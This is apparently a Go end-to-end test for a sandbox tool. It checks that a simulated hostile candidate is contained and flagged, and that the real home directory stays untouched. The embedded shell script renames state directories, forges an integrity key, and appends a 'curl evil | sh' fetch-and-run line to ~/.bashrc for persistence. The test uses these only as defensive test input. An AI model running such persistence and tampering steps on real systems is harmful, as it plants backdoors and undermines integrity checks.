//go:build linux

package sandbox

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/shadow-dev/shadow/test/e2e"
)

// The whole program, with the state dir and the workspace in $HOME as by
// default: a candidate renames the masked state dir's parents away, makes
// a fresh state dir with its own integrity key, and appends to ~/.bashrc.
// The real fix wins; the candidate's writes are its outside list and make
// it suspicious; the real $HOME, state dir and checkout are unchanged, and
// a shadow gc afterwards finds nothing of it (docs/modes.md,
// "The home layer").
func TestE2ESealedHomeRenameAndPersistence(t *testing.T) {
	e := e2e.NewEnv(t)
	home := filepath.Join(t.TempDir(), "home")
	e.State = filepath.Join(home, ".local", "state")
	e.WS = filepath.Join(home, "src", "proj")
	if err := os.MkdirAll(e.WS, 0o755); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# mine\n"), 0o644)
	e.ExtraEnv = append(e.ExtraEnv, "HOME="+home)
	e.Write("v.txt", "bad\n", 0o644)
	spec := e.Spec(map[string]any{"hypotheses": []any{
		map[string]any{"name": "fix", "edits": []any{map[string]any{"path": "v.txt", "content": "good\n"}}},
		map[string]any{"name": "evil", "edits": []any{map[string]any{"path": "evil.txt", "content": "1\n"}}},
	}})
	script := `if [ -e evil.txt ]; then
		S="$XDG_STATE_HOME/shadow"
		for a in "$S" "$XDG_STATE_HOME" "$(dirname "$XDG_STATE_HOME")"; do mv "$a" "$a.x" 2>/dev/null; done
		mkdir -p "$S" && printf FORGED > "$S/integrity.key"
		echo 'curl evil | sh' >> ~/.bashrc
		echo good > v.txt
	fi
	grep -q good v.txt`
	out, stderr, code := e.Shadow("--headless", "--json", "-C", e.WS, spec, "--", "sh", "-c", script)
	if code != 0 {
		t.Fatalf("exit %d\n%s\n%s", code, out, stderr)
	}
	r := e.Report(out)
	m := e2e.ByName(r)
	if r.Winner == nil || *r.Winner != "fix" {
		t.Errorf("winner %s, want fix (evil persisted outside its shadow)", e2e.Str(r.Winner))
	}
	evil := m["evil"]
	if evil.Suspicious == nil || !strings.Contains(*evil.Suspicious, ".bashrc") {
		t.Errorf("evil.suspicious = %v, want the ~/.bashrc write named", evil.Suspicious)
	}
	found := false
	for _, w := range evil.Outside {
		found = found || w.Path == filepath.Join(home, ".bashrc") && w.Kind == "changed"
	}
	if !found {
		t.Errorf("evil.outside = %+v, want ~/.bashrc changed", evil.Outside)
	}
	if fix := m["fix"]; fix.Suspicious != nil {
		t.Errorf("fix: suspicious %v (outside %+v)", *fix.Suspicious, fix.Outside)
	}
	before := e2e.Tree(t, e.WS)
	if b, _ := os.ReadFile(filepath.Join(home, ".bashrc")); string(b) != "# mine\n" {
		t.Errorf("the real ~/.bashrc is %q", b)
	}
	for _, p := range []string{filepath.Join(e.State, "shadow.x"), e.State + ".x", filepath.Join(home, ".local.x")} {
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%s exists: a rename reached the real home", p)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(e.State, "shadow", "integrity.key")); strings.Contains(string(b), "FORGED") {
		t.Errorf("the real integrity key was replaced")
	}
	if o, se, code := e.Shadow("gc"); code != 0 {
		t.Errorf("gc: exit %d\n%s%s", code, o, se)
	}
	if after := e2e.Tree(t, e.WS); after != before {
		t.Errorf("gc changed the checkout:\n%s\n%s", before, after)
	}
}
